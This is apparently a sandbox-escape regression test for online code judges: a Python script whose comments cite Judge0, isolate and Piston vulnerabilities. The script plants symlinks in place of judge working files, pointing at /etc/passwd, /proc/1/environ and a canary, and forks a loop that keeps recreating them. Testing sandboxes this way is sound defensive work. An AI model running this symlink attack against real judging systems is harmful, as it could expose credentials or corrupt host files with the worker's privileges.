# Puts links in place of every file that some judge has written, read, chowned or removed after a run: they
# lead to the canary, to accounts, to devices. Some are pictures, so that following one would show.
# hole: CVE-2024-28185 (Judge0): run_script was written through a link, with the rights of the worker
# hole: CVE-2024-28189 (Judge0): chown and rm by path in the box followed links, after the first was mended
# hole: isolate 86a1878, b131561, f169e95: the result file was opened with too many rights
# hole: isolate 8af30e7, 4cc2e1b: names in a box's folder were followed while it was set up and cleaned
# hole: Piston 2386684, 9590d5a: files were cleaned while processes lived that made them anew
# stopped by: files out, scratch
# expect: {"status": "runtime_error", "limit": null, "exit_code": 43, "stdout": "linked\n", "stderr": "", "images": [], "images_omitted": 5}
import os, sys

names = ("main.py main main.cpp run_script compile_script run compile run.sh compile.sh a.out stdin stdin.txt stdin_file.txt stdout stdout.txt "
         "stderr stderr.txt metadata.txt meta result.json output input .out prog solution.py box submission data code output.png stdout.png "
         "result.png image.png plot.svg .bashrc __pycache__ .matplotlib").split()
open("/tmp/mine", "w").write("mine")
targets = (sys.argv[2], "/etc/passwd", "../tmp/mine", "/proc/self/exe", "/dev/zero", "/proc/1/environ", "/", "../../work", "main.py")
for folder in ("/work/", "/tmp/", "/dev/shm/"):
    for number, name in enumerate(names):
        if os.path.lexists(folder + name):
            os.unlink(folder + name)
        os.symlink(targets[number % len(targets)], folder + name)
if os.fork() == 0:
    while True:
        for name in names:
            os.symlink(sys.argv[2], "/work/new")
            os.rename("/work/new", "/work/" + name)
print("linked", flush=True)
os._exit(43)
